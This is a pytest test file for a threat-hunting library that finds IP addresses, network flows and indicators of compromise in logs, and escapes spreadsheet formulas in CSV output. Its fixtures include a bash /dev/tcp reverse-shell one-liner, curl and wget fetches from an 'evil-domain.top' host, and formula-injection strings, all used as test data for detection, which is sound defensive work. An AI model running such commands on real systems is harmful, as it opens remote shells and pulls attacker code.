"""Addresses in messages and flows, flow summaries, IoCs across tables, TI result summaries.

Expected values on loghub's OpenSSH_2k.log and msticpy's az_net_flows.csv were
counted with grep/awk and Python's csv module on the files themselves (see the
comments); the small frames below are counted by hand.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis.network import (
    IocSource,
    collect_iocs,
    csv_text,
    flow_summary,
    flows_over_time,
    ioc_overview,
    ip_activity,
    ips_of_owners,
    lookup_candidates,
    mentions_ip,
    messages_mentioning,
    provider_status,
    sort_results,
    syslog_ips,
    worst_severity,
)
from hunting.readers import read_file
from hunting.readers.base import ReadOptions
from hunting.schema import FLOWS, SUDO, SYSLOG, conform
from hunting.ti.base import TI_RESULTS


def ts(text: str) -> pd.Timestamp:
    return pd.Timestamp(text, tz="UTC")


def syslog(rows: list[tuple[str, str, str]]) -> pd.DataFrame:
    """(time, process, message) rows as a Syslog frame."""
    return conform(
        pd.DataFrame(
            {
                "TimeGenerated": [ts(t) for t, _, _ in rows],
                "Computer": "h1",
                "ProcessName": [p for _, p, _ in rows],
                "SyslogMessage": [m for _, _, m in rows],
            }
        ),
        SYSLOG,
    )


def flows(rows: list[dict[str, object]]) -> pd.DataFrame:
    return conform(pd.DataFrame(rows), FLOWS)


# --- mentions_ip -------------------------------------------------------------------------------

TEXTS = [
    "Accepted password for bob from 10.0.0.1 port 22 ssh2",  # 0 yes
    "Failed password for bob from 10.0.0.12 port 22 ssh2",  # 1 no: 10.0.0.12
    "connect from 110.0.0.1",  # 2 no: 110.0.0.1
    "peer 10.0.0.1:443 closed",  # 3 yes: with a port
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",  # 4 yes: in a path
    "version 10.0.0.1.5 installed",  # 5 no: a five-part version
    "last seen at 10.0.0.1.",  # 6 yes: sentence end
    "mapped ::ffff:10.0.0.1 ok",  # 7 yes: IPv4-mapped
    "host 10.0.0.1a",  # 8 no: glued to a letter
    "",  # 9 no
]


def test_mentions_ip_whole_tokens_only() -> None:
    hits = mentions_ip(pd.Series(TEXTS, dtype="string"), "10.0.0.1")
    assert hits.tolist() == [True, False, False, True, True, False, True, True, False, False]


def test_mentions_ip_ipv6_any_spelling() -> None:
    texts = pd.Series(
        [
            "from 2001:DB8:0:0:0:0:0:1 port 22",  # yes: upper case, uncompressed
            "from [2001:db8::1]:22",  # yes: bracketed with port
            "from 2001:db8::10 port 22",  # no: another address
            "at 06:55:46 nothing",  # no: a time
        ],
        dtype="string",
    )
    assert mentions_ip(texts, "2001:db8::1").tolist() == [True, True, False, False]


def test_mentions_ip_rejects_non_address() -> None:
    with pytest.raises(ValueError, match="not an IP address"):
        mentions_ip(pd.Series(["x"]), "10.0.0")


def test_messages_mentioning_time_order() -> None:
    frame = syslog(
        [
            ("2024-01-01 10:05", "sshd", "from 192.0.2.7 port 1"),
            ("2024-01-01 10:00", "sshd", "from 192.0.2.70 port 1"),
            ("2024-01-01 09:00", "kernel", "SRC=192.0.2.7 DST=10.0.0.2"),
        ]
    )
    out = messages_mentioning(frame, "192.0.2.7")
    assert out["SyslogMessage"].tolist() == ["SRC=192.0.2.7 DST=10.0.0.2", "from 192.0.2.7 port 1"]


def test_mentions_ip_loghub_counts(shared_data: Path) -> None:
    df = read_file(shared_data / "loghub" / "OpenSSH_2k.log", ReadOptions(year=2015)).tables["Syslog"]
    # grep -c on the file: 867, 349 and 2 lines
    assert int(mentions_ip(df["SyslogMessage"], "183.62.140.253").sum()) == 867
    assert int(mentions_ip(df["SyslogMessage"], "187.141.143.180").sum()) == 349
    assert messages_mentioning(df, "119.137.62.142")["SyslogMessage"].str.contains("119.137.62.142").all()
    assert len(messages_mentioning(df, "119.137.62.142")) == 2


# --- syslog_ips / ip_activity ----------------------------------------------------------------


def test_syslog_ips_counts_messages_and_path_addresses() -> None:
    frame = syslog(
        [
            ("2024-01-01 10:00", "sshd", "Failed password for root from 203.0.113.9 port 1 ssh2"),
            ("2024-01-01 10:01", "sshd", "from 203.0.113.9 and again 203.0.113.9"),
            ("2024-01-01 10:02", "bash", "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"),
            ("2024-01-01 10:03", "cron", "nothing here 1.2.3.4.5"),
        ]
    )
    out = syslog_ips(frame)
    assert list(zip(out["Row"], out["Ip"], out["ProcessName"], strict=True)) == [
        (0, "203.0.113.9", "sshd"),
        (1, "203.0.113.9", "sshd"),
        (2, "198.51.100.4", "bash"),
    ]
    assert set(out["Scope"]) == {"documentation"}


def test_syslog_ips_loghub_distinct_addresses(shared_data: Path) -> None:
    df = read_file(shared_data / "loghub" / "OpenSSH_2k.log", ReadOptions(year=2015)).tables["Syslog"]
    mentions = syslog_ips(df)
    # grep -oE '\b[0-9]{1,3}(\.[0-9]{1,3}){3}\b' | sort -u | wc -l -> 30 (all valid addresses)
    assert mentions["Ip"].nunique() == 30
    act = ip_activity(df, FLOWS.empty(), mentions=mentions)
    top = act.iloc[0]
    assert (top["Ip"], top["SyslogMessages"], top["Processes"]) == ("183.62.140.253", 867, "sshd (867)")
    # grep -n: first at line 1020 (Dec 10 10:54:27), last at line 1999 (Dec 10 11:04:43)
    assert (top["FirstSeen"], top["LastSeen"]) == (ts("2015-12-10 10:54:27"), ts("2015-12-10 11:04:43"))
    assert set(act["SeenIn"]) == {"syslog"}


def test_ip_activity_joins_syslog_and_flows() -> None:
    frame = syslog(
        [
            ("2024-01-01 10:00", "sshd", "Accepted password for bob from 8.8.8.8 port 1 ssh2"),
            ("2024-01-01 11:00", "kernel", "SRC=8.8.8.8 DST=10.0.0.5"),
            ("2024-01-01 12:00", "sshd", "from 10.0.0.9 port 2"),
        ]
    )
    fl = flows(
        [
            {  # the host's own address (VMIPAddress) is not a remote address
                "TimeGenerated": ts("2024-01-01 09:30"), "FlowStartTime": ts("2024-01-01 09:00"),
                "FlowEndTime": ts("2024-01-01 09:10"), "VMIPAddress": "10.0.0.5", "SrcIP": "10.0.0.5",
                "PublicIPs": "8.8.8.8,1.1.1.1", "FlowDirection": "O", "AllowedOutFlows": 4,
            },
            {
                "TimeGenerated": ts("2024-01-01 13:30"), "FlowStartTime": ts("2024-01-01 13:00"),
                "FlowEndTime": ts("2024-01-01 13:20"), "VMIPAddress": "10.0.0.5", "PublicIPs": "8.8.8.8",
                "FlowDirection": "I", "AllowedInFlows": 2, "DeniedInFlows": 3,
            },
        ]
    )  # fmt: skip
    act = ip_activity(frame, fl).set_index("Ip")
    assert sorted(act.index) == ["1.1.1.1", "10.0.0.5", "10.0.0.9", "8.8.8.8"]
    assert act.loc["10.0.0.5", "SeenIn"] == "syslog"  # named in a message, never a flow's remote end
    g = act.loc["8.8.8.8"]
    assert (g["SyslogMessages"], g["FlowRecords"], g["Flows"]) == (2, 2, 9)
    assert (g["FirstSeen"], g["LastSeen"]) == (ts("2024-01-01 09:00"), ts("2024-01-01 13:20"))
    assert g["Processes"] == "sshd (1), kernel (1)"
    assert (g["SeenIn"], g["Scope"], bool(g["IsPublic"])) == ("syslog,flows", "public", True)
    assert (act.loc["1.1.1.1", "SeenIn"], act.loc["1.1.1.1", "SyslogMessages"]) == ("flows", 0)
    assert (act.loc["10.0.0.9", "Scope"], bool(act.loc["10.0.0.9", "IsPublic"])) == ("private", False)
    assert act.index[0] == "8.8.8.8"  # most active first


def test_ip_activity_empty_inputs() -> None:
    assert ip_activity(SYSLOG.empty(), FLOWS.empty()).empty


# --- flows -------------------------------------------------------------------------------------


def test_flow_summary_real_export(shared_data: Path) -> None:
    df = read_file(shared_data / "msticpy" / "az_net_flows.csv", ReadOptions()).tables["NetworkFlows"]
    out = flow_summary(df)
    # csv module on the file: 340 records O/T/https/AzurePublic carrying 2391 flows; 3093 flows in all; none denied
    top = out.iloc[0]
    assert (top["FlowDirection"], top["L4Protocol"], top["L7Protocol"], top["FlowType"]) == (
        "outbound",
        "T",
        "https",
        "AzurePublic",
    )
    assert (top["Records"], top["Flows"], top["DeniedFlows"]) == (340, 2391, 0)
    assert int(out["Flows"].sum()) == 3093 and int(out["Records"].sum()) == 460
    assert set(out["FlowDirection"]) == {"inbound", "outbound"}


def test_flows_over_time_buckets_and_keys() -> None:
    fl = flows(
        [
            {"TimeGenerated": ts("2024-01-01 11:00"), "FlowStartTime": ts("2024-01-01 10:10"),
             "FlowDirection": "O", "L7Protocol": "https", "AllowedOutFlows": 4},
            {"TimeGenerated": ts("2024-01-01 11:00"), "FlowStartTime": ts("2024-01-01 10:50"),
             "FlowDirection": "O", "L7Protocol": "ssh", "AllowedOutFlows": 1},
            {"TimeGenerated": ts("2024-01-01 12:30"), "FlowDirection": "I", "L7Protocol": "ssh",
             "DeniedInFlows": 7},  # no start time: TimeGenerated is used
        ]
    )  # fmt: skip
    by_dir = flows_over_time(fl, bucket_seconds=3600)
    assert list(zip(by_dir["TimeGenerated"], by_dir["Key"], by_dir["Count"], strict=True)) == [
        (ts("2024-01-01 10:00"), "outbound", 5),
        (ts("2024-01-01 12:00"), "inbound", 7),
    ]
    both = flows_over_time(fl, bucket_seconds=3600, by="direction+protocol")
    assert both["Key"].tolist() == ["outbound https", "outbound ssh", "inbound ssh"]
    with pytest.raises(ValueError, match="cannot group"):
        flows_over_time(fl, by="SrcIP")


# --- IoCs across tables ------------------------------------------------------------------------


def test_collect_iocs_and_overview() -> None:
    sl = syslog(
        [
            ("2024-01-01 10:00", "sshd", "from 10.1.2.3 port 22"),
            ("2024-01-01 10:05", "wget", "fetching hxxp://evil-domain[.]top/x from 45.95.147.236"),
        ]
    )
    sudo = conform(
        pd.DataFrame(
            {"TimeGenerated": [ts("2024-01-01 11:00")], "Command": ["/usr/bin/curl http://evil-domain.top/x"]}
        ),
        SUDO,
    )
    occ = collect_iocs(
        [IocSource("Syslog", sl, ("SyslogMessage",)), IocSource("SudoEvents", sudo, ("Command", "Nope"))]
    )
    ov = ioc_overview(occ).set_index("Value")
    url = ov.loc["http://evil-domain.top/x"]
    assert (url["IocType"], url["Count"], url["Rows"]) == ("url", 2, 2)
    assert url["SeenIn"] == "Syslog.SyslogMessage: 1, SudoEvents.Command: 1"
    assert (url["FirstSeen"], url["LastSeen"]) == (ts("2024-01-01 10:05"), ts("2024-01-01 11:00"))
    assert ov.loc["10.1.2.3", "Note"] == "private address" and not bool(ov.loc["10.1.2.3", "IsPublic"])
    assert ov.loc["45.95.147.236", "Note"] == "" and bool(ov.loc["45.95.147.236", "IsPublic"])
    assert ov.loc["evil-domain.top", "IocType"] == "dns"
    assert ov.loc["/usr/bin/curl", "IocType"] == "path"
    # types in a fixed order: url first, paths last
    assert ioc_overview(occ)["IocType"].tolist()[0] == "url"
    assert ioc_overview(occ)["IocType"].tolist()[-1] == "path"
    pairs = lookup_candidates(ioc_overview(occ), types=["ipv4", "dns"])
    assert pairs == [("45.95.147.236", "ipv4"), ("evil-domain.top", "dns")]
    with_private = lookup_candidates(ioc_overview(occ), types=["ipv4"], include_non_public=True)
    assert sorted(pairs_ip for pairs_ip, _ in with_private) == ["10.1.2.3", "45.95.147.236"]


def test_collect_iocs_documentation_marked_not_dropped() -> None:
    sl = syslog([("2024-01-01 10:00", "sshd", "from 192.0.2.1 and 127.0.0.1")])
    ov = ioc_overview(collect_iocs([IocSource("Syslog", sl, ("SyslogMessage",))])).set_index("Value")
    assert ov.loc["192.0.2.1", "Note"] == "documentation range"
    assert ov.loc["127.0.0.1", "Note"] == "loopback address"


def test_collect_iocs_nothing() -> None:
    assert collect_iocs([IocSource("Syslog", SYSLOG.empty(), ("SyslogMessage",))]).empty
    assert ioc_overview(collect_iocs([])).empty


def test_ips_of_owners() -> None:
    geo = pd.DataFrame({"Ip": ["8.8.8.8", "2001:4860::1", "1.1.1.1"], "AsnOwner": ["GOOGLE", "GOOGLE", "CF"]})
    assert ips_of_owners(geo, ["GOOGLE"]) == [("8.8.8.8", "ipv4"), ("2001:4860::1", "ipv6")]


# --- TI results -------------------------------------------------------------------------------


def _results() -> pd.DataFrame:
    rows = [
        ("1.1.1.1", "ipv4", "OTX", False, "unknown", "error: HTTP 500"),
        ("1.1.1.1", "ipv4", "LocalFeed", True, "warning", "ok"),
        ("2.2.2.2", "ipv4", "OTX", False, "unknown", "error: timed out after 3 attempts"),
        ("2.2.2.2", "ipv4", "LocalFeed", True, "high", "ok"),
        ("2.2.2.2", "ipv4", "VirusTotal", False, "unknown", "rate_limited"),
        ("3.3.3.3", "ipv4", "LocalFeed", False, "information", "not_found"),
        ("3.3.3.3", "ipv4", "VirusTotal", True, "warning", "ok"),
        ("10.0.0.1", "ipv4", "VirusTotal", False, "unknown", "skipped: private address"),
    ]
    cols = ["Ioc", "IocType", "Provider", "Result", "Severity", "Status"]
    return conform(pd.DataFrame(rows, columns=cols), TI_RESULTS)


def test_provider_status_per_provider() -> None:
    st = provider_status(_results()).set_index("Provider")
    otx = st.loc["OTX"]
    assert (otx["Lookups"], otx["Errors"], otx["Hits"], otx["State"]) == (2, 2, 0, "failing")
    assert otx["Message"] in ("error: HTTP 500", "error: timed out after 3 attempts")
    feed = st.loc["LocalFeed"]
    assert (feed["Lookups"], feed["Hits"], feed["NotFound"], feed["State"], feed["Message"]) == (
        3,
        2,
        1,
        "ok",
        "",
    )
    vt = st.loc["VirusTotal"]
    assert (vt["RateLimited"], vt["Skipped"], vt["Hits"], vt["State"]) == (1, 1, 1, "partly failing")


def test_sort_results_hits_by_severity_then_rest() -> None:
    out = sort_results(_results())
    assert list(zip(out["Ioc"], out["Provider"], strict=True))[:3] == [
        ("2.2.2.2", "LocalFeed"),  # high
        ("1.1.1.1", "LocalFeed"),  # warning
        ("3.3.3.3", "VirusTotal"),  # warning
    ]
    assert not out["Result"].iloc[3:].any()


def test_worst_severity_per_ioc() -> None:
    assert worst_severity(_results()) == {"1.1.1.1": "warning", "2.2.2.2": "high", "3.3.3.3": "warning"}


def test_csv_text_neutralises_formulas() -> None:
    frame = pd.DataFrame({"Value": ['=HYPERLINK("x")', "-cmd", "plain", "@x"], "Count": [1, -2, 3, 4]})
    lines = csv_text(frame).splitlines()
    assert lines == ["Value,Count", '"\'=HYPERLINK(""x"")",1', "'-cmd,-2", "plain,3", "'@x,4"]
